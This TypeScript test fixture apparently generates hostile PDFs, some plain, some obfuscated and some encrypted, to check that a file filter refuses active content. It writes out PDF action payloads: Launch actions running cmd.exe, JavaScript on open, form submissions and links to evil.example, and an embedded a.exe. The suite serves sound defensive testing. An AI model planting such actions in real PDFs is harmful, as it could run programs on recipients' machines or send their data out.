// PDFs with active content: written plainly, obfuscated, encrypted, and with a table that does not match the objects, under
// both script policies. For each obfuscation, we saw MuPDF or PDF.js find the content.

import { deflateSync } from 'node:zlib';
import { toBytes } from '../../../support/files/bytes.ts';
import {
  addObjects,
  addObjectStream,
  encryptStream,
  packObjects,
  type PdfObject,
  statementObjects,
  toEncryptingTrailer,
  toStream,
  writeEncrypted,
  writePdfText,
} from '../../../support/files/pdf.ts';
import type { HostileFile } from './hostile-file.ts';
import { inconsistentTables } from './inconsistent-tables.ts';
import { type Obfuscation, obfuscations } from './obfuscations.ts';

export interface ActiveContent {
  readonly name: string;
  /** `strict`: only in the strict mode. `never`: harmless, or started by a click. Other content at the same position is refused. */
  readonly refused: 'always' | 'strict' | 'never';
  /** A new catalog (1) or page (3), and objects from 5 on. No streams, because an object stream cannot contain them. */
  readonly objects: readonly PdfObject[];
}

const script = String.raw`<</S/JavaScript/JS(app.alert\(1\))>>`;
const launch = '<</S/Launch/F(cmd.exe)>>';
const address = '<</S/URI/URI(https://evil.example)>>';
const submission = '<</S/SubmitForm/F(https://evil.example)>>';
const print = '<</S/Named/N/Print>>';
const attached = '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>';

const always: readonly (readonly [string, ...PdfObject[]])[] = [
  ['a program started', toCatalog('/OpenAction 5 0 R'), [5, launch]],
  ['a program started by a click', toLink('/S/Launch/Win<</F(cmd.exe)>>')],
  [
    'a program started among the actions after a jump',
    toCatalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R 6 0 R]>>'),
    [5, print],
    [6, launch],
  ],
  [
    'a program started by a bookmark',
    toCatalog('/Outlines 5 0 R'),
    [5, '<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 1>>'],
    [6, `<</Title(a)/Parent 5 0 R/A${launch}>>`],
  ],
  [
    'a program started by the next step',
    toPage('/PresSteps 5 0 R'),
    [5, '<</Type/NavNode/NA 6 0 R>>'],
    [6, launch],
  ],
  [
    'a program started by the step before',
    toPage('/PresSteps 5 0 R'),
    [5, '<</Type/NavNode/PA 6 0 R>>'],
    [6, launch],
  ],
  ['an address opened', toCatalog('/OpenAction 5 0 R'), [5, address]],
  [
    'an address opened after a jump',
    toCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${address}>>`),
  ],
  ['an address opened with the page', toPage('/AA<</O 5 0 R>>'), [5, address]],
  ['a form that sends itself with the page', toPage('/AA<</O 5 0 R>>'), [5, submission]],
  [
    'a form that sends itself under the mouse',
    toAnnotation('/Subtype/Widget/FT/Btn/AA<</E 5 0 R>>'),
    [5, submission],
  ],
  ['data imported at opening', toCatalog('/OpenAction 5 0 R'), [5, '<</S/ImportData/F(a.fdf)>>']],
  ['a jump into an attachment', toCatalog('/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a.pdf)>>>>')],
  ['a jump to another file', toCatalog('/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>')],
  [
    'an attachment by name',
    toCatalog('/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>'),
    [5, attached],
  ],
  ['an attachment as a note', toAnnotation(`/Subtype/FileAttachment/FS${attached}`)],
  [
    'a portfolio',
    toCatalog('/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(a.pdf)5 0 R]>>>>'),
    [5, attached],
  ],
  [
    'an associated file',
    toCatalog('/AF[5 0 R]'),
    [5, '<</Type/Filespec/UF(a.exe)/EF<</UF 4 0 R>>>>'],
  ],
  ['rich media', toAnnotation('/Subtype/RichMedia/RichMediaContent<<>>')],
  ['a three-dimensional view', toAnnotation('/Subtype/3D/3DD 4 0 R')],
  ['a film', toAnnotation('/Subtype/Movie/Movie<</F(a.avi)>>/A true')],
  ['a film played by a click', toLink('/S/Movie/T(a)')],
  ['a sound', toAnnotation('/Subtype/Sound/Sound 4 0 R')],
  ['a sound played by a click', toLink('/S/Sound/Sound 4 0 R')],
  [
    'a rendition',
    toAnnotation(String.raw`/Subtype/Screen/A<</S/Rendition/OP 0/JS(app.alert\(1\))>>`),
  ],
];

const strict: readonly (readonly [string, ...PdfObject[]])[] = [
  ['JavaScript at opening', toCatalog('/OpenAction 5 0 R'), [5, script]],
  ['JavaScript by name', toCatalog('/Names<</JavaScript<</Names[(a)5 0 R]>>>>'), [5, script]],
  ['JavaScript in an annotation', toAnnotation(`/Subtype/Link/A ${script}`)],
  [
    'JavaScript behind a jump',
    toCatalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>'),
    [5, script],
  ],
  ['JavaScript of a field', toAnnotation('/Subtype/Widget/FT/Tx/AA<</C 5 0 R>>'), [5, script]],
  ['an XFA form', toCatalog('/AcroForm<</Fields[]/XFA 4 0 R>>')],
];

const never: readonly (readonly [string, ...PdfObject[]])[] = [
  ['printing with the page', toPage('/AA<</O 5 0 R>>'), [5, print]],
  ['printing with the document', toCatalog('/AA<</WC 5 0 R>>'), [5, print]],
  ['an address behind a click', toLink('/S/URI/URI(https://bank.example)')],
  ['a form that is sent by a click', toLink('/S/SubmitForm/F(https://bank.example)')],
  ['data imported by a click', toLink('/S/ImportData/F(a.fdf)')],
];

export const activeContents: readonly ActiveContent[] = [
  ...always.map(([name, ...objects]) => ({ name, refused: 'always' as const, objects })),
  ...strict.map(([name, ...objects]) => ({ name, refused: 'strict' as const, objects })),
  ...never.map(([name, ...objects]) => ({ name, refused: 'never' as const, objects })),
];

function toCatalog(extra: string): PdfObject {
  return [1, `<</Type/Catalog/Pages 2 0 R${extra}>>`];
}

function toPage(extra: string): PdfObject {
  return [
    3,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<<>>${extra}>>`,
  ];
}

function toAnnotation(entries: string): PdfObject {
  return toPage(`/Annots[<</Type/Annot/Rect[0 0 9 9]${entries}>>]`);
}

function toLink(action: string): PdfObject {
  return toAnnotation(`/Subtype/Link/A<<${action}>>`);
}

const plain: Obfuscation = {
  name: 'in the open',
  apply: (_statement, objects) => writePdfText([...new Map([...statementObjects, ...objects])]),
};

export const activePdfs: readonly HostileFile[] = [
  ...[plain, ...obfuscations].flatMap((obfuscation) => listFiles('active PDF', obfuscation)),
  ...inconsistentTables.flatMap((obfuscation) => listFiles('inconsistent table', obfuscation)),
];

/** One file for each content and policy. */
function listFiles(group: string, obfuscation: Obfuscation): HostileFile[] {
  return (['accept', 'refuse'] as const).flatMap((scripts) =>
    activeContents.map((content) => ({
      group,
      name: `${content.name}, ${obfuscation.name}${scripts === 'refuse' ? ', strict' : ''}`,
      extension: 'pdf',
      scripts,
      expected: toExpected(content, obfuscation, scripts),
      make: () => toBytes(obfuscation.apply(writePdfText(), content.objects)),
    })),
  );
}

/** Allowed content must be accepted if it is written plainly. An obfuscated file may be too damaged to open. */
function toExpected(
  { refused }: ActiveContent,
  obfuscation: Obfuscation,
  scripts: 'accept' | 'refuse',
): HostileFile['expected'] {
  if (refused === 'always' || (refused === 'strict' && scripts === 'refuse')) return 'refused';
  return obfuscation === plain ? 'accepted' : 'either';
}

const forbidden = activeContents.filter(({ refused }) => refused === 'always');

export const encryptedPdfs: readonly HostileFile[] = [
  toFile('that opens without a password', 'accepted', () => writeEncrypted('')),
  toFile('that asks for a password', 'refused', () => writeEncrypted('secret')),
  ...forbidden.map(({ name, objects }) =>
    toFile(`with ${name}, its names in the open`, 'refused', () =>
      addObjects(writeEncrypted(''), objects, toEncryptingTrailer('')),
    ),
  ),
  ...forbidden.flatMap(({ name, objects }) => [
    toFile(`with ${name} in an object stream, encrypted without a password`, 'refused', () =>
      addEncryptedObjectStream('', objects),
    ),
    toFile(`with ${name} in an object stream, encrypted with a password`, 'refused', () =>
      addEncryptedObjectStream('secret', objects),
    ),
  ]),
];

function addEncryptedObjectStream(password: string, objects: readonly PdfObject[]): string {
  const { data, dictionary } = packObjects(objects);
  const encrypted = encryptStream(password, 80, deflateSync(data));
  return addObjectStream(writeEncrypted(password), objects, {
    body: toStream(`/Type/ObjStm${dictionary}/Filter/FlateDecode`, encrypted),
    trailer: toEncryptingTrailer(password),
  });
}

function toFile(name: string, expected: HostileFile['expected'], make: () => string): HostileFile {
  return {
    group: 'encrypted PDF',
    name: `PDF ${name}`,
    extension: 'pdf',
    expected,
    make: () => toBytes(make()),
  };
}
